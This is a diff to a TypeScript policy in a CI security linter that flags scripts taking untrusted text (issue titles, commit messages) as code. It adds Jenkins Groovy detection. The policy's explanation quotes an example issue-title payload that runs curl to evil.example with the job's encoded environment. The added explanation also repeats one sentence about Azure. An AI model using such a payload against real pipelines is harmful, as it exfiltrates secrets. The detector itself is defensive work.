@@ -22,6 +22,10 @@ import { PRIVILEGED_EVENTS } from "../../platforms/github-actions/privileged-eve
 import { secretsInReach } from "../../platforms/github-actions/secrets-in-reach.ts";
 import { permissionsOf, tokenAccess } from "../../platforms/github-actions/token.ts";
 import { injectionsIn as evaluatedIn } from "../../platforms/gitlab-ci/injections.ts";
+import {
+  type Injection as GroovyInjection,
+  injectionsIn as groovyInjections,
+} from "../../platforms/jenkins/injections.ts";
 import { evaluatedTexts } from "../../platforms/script/evaluated-texts.ts";
 import { type TektonInjection, tektonInjections } from "../../platforms/tekton/injections.ts";
 import { WOODPECKER } from "../../platforms/woodpecker/dialect.ts";
@@ -34,8 +38,8 @@ export const secretInInjectableStep = definePolicy({
   meta: {
     id: "untrusted/secret-in-injectable-step",
     title: "Script that takes outsiders' text for code",
-    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`, Tekton with `$(params.title)` and `{{ source_branch }}`, Cloud Build with `$BRANCH_NAME`, Buildkite with `$BUILDKITE_MESSAGE` while the pipeline is uploaded, Drone and Woodpecker with `${DRONE_COMMIT_MESSAGE}` and `${CI_COMMIT_MESSAGE}` before they read the file. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
-    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Buildkite write `$$BUILDKITE_MESSAGE`, on Drone and Woodpecker `$CI_COMMIT_MESSAGE` or `$${…}`, which the shell reads as a variable. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`. On Tekton give the parameter to a variable of the step (`env: [{ name: TITLE, value: $(params.title) }]`), on Cloud Build the substitution (`env: [BRANCH=$BRANCH_NAME]`), and quote it in the script.',
+    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`, and Groovy on Jenkins with `sh "… ${env.CHANGE_TITLE}"`. Azure does so with `$(Build.SourceVersionMessage)`, Tekton with `$(params.title)` and `{{ source_branch }}`, Cloud Build with `$BRANCH_NAME`, Buildkite with `$BUILDKITE_MESSAGE` while the pipeline is uploaded, Drone and Woodpecker with `${DRONE_COMMIT_MESSAGE}` and `${CI_COMMIT_MESSAGE}` before they read the file. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
+    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Buildkite write `$$BUILDKITE_MESSAGE`, on Drone and Woodpecker `$CI_COMMIT_MESSAGE` or `$${…}`, which the shell reads as a variable. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. On Jenkins write the script in single quotes, `sh \'echo "$CHANGE_TITLE"\'`, and put a parameter into the environment first (`withEnv`). Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`. On Tekton give the parameter to a variable of the step (`env: [{ name: TITLE, value: $(params.title) }]`), on Cloud Build the substitution (`env: [BRANCH=$BRANCH_NAME]`), and quote it in the script.',
     severity: "critical",
     confidence: "high",
     preset: "recommended",
@@ -47,6 +51,7 @@ export const secretInInjectableStep = definePolicy({
       "https://circleci.com/docs/guides/orchestrate/pipeline-variables/",
       "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs",
       "https://buildkite.com/docs/agent/v3/cli/reference/pipeline#environment-variable-substitution",
+      "https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation",
     ],
     practices: ["P5"],
     cwe: [94, 78],
@@ -62,6 +67,7 @@ export const secretInInjectableStep = definePolicy({
     "drone",
     "github-actions",
     "gitlab-ci",
+    "jenkins",
     "tekton",
     "travis",
     "woodpecker",
@@ -379,6 +385,7 @@ export const secretInInjectableStep = definePolicy({
     if (model.kind === "codebuild")
       return onePerPlace(codebuildInjections(model, flows).map((one) => gradedMatch(one)));
     if (model.kind === "tekton") return onePerPlace(tektonMatches(tektonInjections(model, flows)));
+    if (model.kind === "jenkins") return onePerPlace(groovyInjections(model, flows).map(groovyMatch));
     if (model.kind !== "pipeline") return onePerPlace(injectionsIn(model).flatMap((one) => matchOf(model, flows, one)));
     return onePerPlace(
       evaluatedIn(model, flows).map(({ place, name, by, script }) => {
@@ -427,6 +434,20 @@ function matchOfChosen({ place, name, author, by, script }: ChosenText): PolicyM
   const [beside, alone] = GRADES[author];
   const how = by === undefined ? "becomes part of the script" : `is run by \`${by}\``;
   const message = `The text of ${name} ${how}, and ${CHOOSERS[author]} chooses it.`;
+  return { place, severity: secret === undefined ? alone : beside, message, related: related(secret) };
+}
+
+/** Jenkins builds the requests of strangers only where its settings let them, and asks who may start a build. */
+const GROOVY_GRADES: Readonly<Record<GroovyInjection["author"], readonly [beside: Severity, alone: Severity]>> = {
+  ...GRADES,
+  starter: ["medium", "low"],
+};
+
+function groovyMatch({ place, path, author, script }: GroovyInjection): PolicyMatch {
+  const secret = script.secrets.find((one) => !isJobToken(one));
+  const [beside, alone] = GROOVY_GRADES[author];
+  const chooser = author === "starter" ? "whoever starts the build" : CHOOSERS[author];
+  const message = `Groovy makes the text of ${path} part of the script, and ${chooser} chooses it.`;
   return { place, severity: secret === undefined ? alone : beside, message, related: related(secret) };
 }
 
